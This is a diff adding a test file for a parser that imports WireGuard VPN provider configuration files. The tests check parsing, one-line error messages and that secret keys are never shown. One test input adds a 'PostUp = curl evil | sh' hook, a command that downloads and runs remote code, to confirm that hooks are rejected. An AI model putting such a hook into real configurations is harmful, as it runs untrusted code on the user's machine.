@@ -1,0 +1,207 @@
+/**
+ * Provider wg-quick files (`wgqt vpn import`): what real providers hand out
+ * parses; anything else is one line naming the file and the line, and never
+ * quotes the private key or the preshared key.
+ */
+import { describe, expect, it } from "vitest";
+import { parseProviderFile } from "../../src/config/provider.js";
+import { ConfigError } from "../../src/errors.js";
+import { fakePresharedKey, fakePrivateKey, fakePublicKey } from "../net/fleet.js";
+
+const PATH = "/home/me/us-west.conf";
+const PRIVATE = fakePrivateKey("provider-file");
+const PSK = fakePresharedKey("provider", "file");
+const SERVER = fakePublicKey("provider-server");
+
+/** A Mullvad-style file: IPv4 and IPv6 addresses, one peer, no PSK. */
+const MULLVAD = `[Interface]
+# Device: Happy Frog
+PrivateKey = ${PRIVATE}
+Address = 10.64.1.2/32,fc00:bbbb:bbbb:bb01::1:2/128
+DNS = 10.64.0.1
+
+[Peer]
+PublicKey = ${SERVER}
+AllowedIPs = 0.0.0.0/0,::0/0
+Endpoint = 198.51.100.7:51820
+`;
+
+/** A Proton-style file: comments of settings, a PSK, CRLF line ends. */
+const PROTON = [
+  "[Interface]",
+  "# Key for laptop",
+  "# NetShield = 1",
+  `PrivateKey = ${PRIVATE}`,
+  "Address = 10.2.0.2/32",
+  "DNS = 10.2.0.1",
+  "",
+  "[Peer]",
+  "# NL#123",
+  `PublicKey = ${SERVER}`,
+  `PresharedKey = ${PSK}`,
+  "AllowedIPs = 0.0.0.0/0",
+  "Endpoint = nl-123.protonvpn.example:51820",
+  "",
+].join("\r\n");
+
+function errorOf(text: string): string {
+  try {
+    parseProviderFile(text, PATH);
+  } catch (error) {
+    expect(error).toBeInstanceOf(ConfigError);
+    const message = (error as Error).message;
+    expect(message.split("\n")).toHaveLength(1);
+    expect(message.startsWith(`${PATH}: `)).toBe(true);
+    // The secrets never appear, whatever went wrong.
+    expect(message).not.toContain(PRIVATE);
+    expect(message).not.toContain(PRIVATE.slice(0, 20));
+    expect(message).not.toContain(PSK);
+    expect(message).not.toContain(PSK.slice(0, 20));
+    return message.slice(PATH.length + 2);
+  }
+  throw new Error("expected a ConfigError");
+}
+
+describe("parseProviderFile", () => {
+  it("takes a Mullvad-style file, leaving out the IPv6 entries with warnings", () => {
+    const { vpn, warnings } = parseProviderFile(MULLVAD, PATH);
+    expect(vpn).toEqual({
+      privateKey: PRIVATE,
+      address: "10.64.1.2/32",
+      dns: ["10.64.0.1"],
+      publicKey: SERVER,
+      endpoint: "198.51.100.7:51820",
+      allowedIPs: ["0.0.0.0/0"],
+    });
+    expect(warnings).toEqual([
+      "line 4: Address fc00:bbbb:bbbb:bb01::1:2/128 left out: wgqt routes IPv4 only",
+      "line 9: AllowedIPs ::0/0 left out: wgqt routes IPv4 only (block IPv6 on this machine if it must not leave unencrypted)",
+    ]);
+  });
+
+  it("takes a Proton-style file with a preshared key, CRLF and comments", () => {
+    const { vpn, warnings } = parseProviderFile(PROTON, PATH);
+    expect(vpn).toMatchObject({
+      presharedKey: PSK,
+      address: "10.2.0.2/32",
+      endpoint: "nl-123.protonvpn.example:51820",
+    });
+    expect(warnings).toEqual([]);
+  });
+
+  it("reads keys case-insensitively and lists that repeat, as wg(8) and wg-quick(8) do", () => {
+    const { vpn } = parseProviderFile(
+      MULLVAD.replace("PrivateKey", "privatekey")
+        .replace("DNS = 10.64.0.1", "dns = 10.64.0.1\nDNS = 10.64.0.2")
+        .replace(
+          "AllowedIPs = 0.0.0.0/0,::0/0",
+          "AllowedIPs = 0.0.0.0/1\nAllowedIPs = 128.0.0.0/1",
+        ),
+      PATH,
+    );
+    expect(vpn.dns).toEqual(["10.64.0.1", "10.64.0.2"]);
+    expect(vpn.allowedIPs).toEqual(["0.0.0.0/1", "128.0.0.0/1"]);
+  });
+
+  it("makes a bare address a /32", () => {
+    expect(parseProviderFile(PROTON.replace("10.2.0.2/32", "10.2.0.2"), PATH).vpn.address).toBe(
+      "10.2.0.2/32",
+    );
+  });
+
+  it.each([
+    [
+      "a setting wgqt does not import",
+      MULLVAD.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1\nMTU = 1320"),
+      /^line 6: \[Interface\] MTU is not imported \(wgqt imports PrivateKey, Address and DNS .*\); remove the line and import again$/,
+    ],
+    [
+      "PersistentKeepalive in the peer",
+      `${MULLVAD}PersistentKeepalive = 25\n`,
+      /^line 11: \[Peer\] PersistentKeepalive is not imported/,
+    ],
+    [
+      "hooks",
+      MULLVAD.replace("[Peer]", "PostUp = curl evil | sh\n[Peer]"),
+      /^line 7: \[Interface\] PostUp is not imported/,
+    ],
+    [
+      "a second peer",
+      `${PROTON}\n[Peer]\nPublicKey = ${SERVER}\n`,
+      /^line 15: a second \[Peer\] \(the first is on line 8\); wgqt imports one server per file/,
+    ],
+    ["an unknown section", "[Interface]\n[Tunnel]\n", /^line 2: unknown section \[Tunnel\]/],
+    [
+      "a setting before any section",
+      `PrivateKey = ${PRIVATE}\n${MULLVAD}`,
+      /^line 1: PrivateKey before any \[Interface\] or \[Peer\] section$/,
+    ],
+    [
+      "a key on a line of its own",
+      MULLVAD.replace(`PrivateKey = ${PRIVATE}`, `PrivateKey =\n${PRIVATE}`),
+      /^line 4: a setting in \[Interface\] is not imported/,
+    ],
+    [
+      "a line that is not a setting",
+      MULLVAD.replace("DNS = 10.64.0.1", `${PRIVATE.slice(0, -1)}`),
+      /^line 5: not a 'Key = value' line or a \[Section\] header$/,
+    ],
+    [
+      "a truncated private key",
+      MULLVAD.replace(PRIVATE, PRIVATE.slice(0, 30)),
+      /^line 3: \[Interface\] PrivateKey is not a WireGuard key \(44 characters of base64\); its value is secret and not shown$/,
+    ],
+    [
+      "a truncated preshared key",
+      PROTON.replace(PSK, PSK.slice(2)),
+      /^line 11: \[Peer\] PresharedKey is not a WireGuard key .*not shown$/,
+    ],
+    [
+      "two private keys",
+      MULLVAD.replace("DNS = 10.64.0.1", `PrivateKey = ${PRIVATE}`),
+      /^line 5: a second PrivateKey in \[Interface\] \(the first is on line 3\)$/,
+    ],
+    ["no private key", MULLVAD.replace(/PrivateKey.*\n/, ""), /^\[Interface\] has no PrivateKey$/],
+    ["no peer", MULLVAD.slice(0, MULLVAD.indexOf("[Peer]")), /^no \[Peer\] section/],
+    ["no address", MULLVAD.replace(/Address.*\n/, ""), /^\[Interface\] has no Address$/],
+    [
+      "only an IPv6 address",
+      MULLVAD.replace("10.64.1.2/32,", ""),
+      /^line 4: Address: no IPv4 address \(wgqt routes IPv4 only\)$/,
+    ],
+    [
+      "two IPv4 addresses",
+      MULLVAD.replace("10.64.1.2/32,", "10.64.1.2/32, 10.64.1.3/32,"),
+      /^line 4: Address: 2 IPv4 addresses; a VPN gives this end one$/,
+    ],
+    [
+      "a malformed address",
+      MULLVAD.replace("10.64.1.2/32", "10.64.1/32"),
+      /^line 4: Address: not an IPv4 address with a prefix length .*got "10\.64\.1\/32"$/,
+    ],
+    [
+      "a DNS search domain",
+      MULLVAD.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1, corp.example"),
+      /^line 5: DNS: "corp\.example" is not an IP address \(search domains are not imported\)$/,
+    ],
+    [
+      "an endpoint without a port",
+      MULLVAD.replace("198.51.100.7:51820", "198.51.100.7"),
+      /^line 10: Endpoint: expected host:port .*got "198\.51\.100\.7"$/,
+    ],
+    ["no endpoint", MULLVAD.replace(/Endpoint.*\n/, ""), /^\[Peer\] has no Endpoint$/],
+    [
+      "a bad server public key",
+      MULLVAD.replace(`PublicKey = ${SERVER}`, "PublicKey = nope"),
+      /^line 8: \[Peer\] PublicKey is not a WireGuard key .*got "nope"$/,
+    ],
+    [
+      "only IPv6 AllowedIPs",
+      MULLVAD.replace("0.0.0.0/0,", ""),
+      /^line 9: AllowedIPs: no IPv4 range$/,
+    ],
+    ["an empty file", "", /^no \[Interface\] section/],
+  ])("rejects %s", (_what, text, expected) => {
+    expect(errorOf(text)).toMatch(expected);
+  });
+});
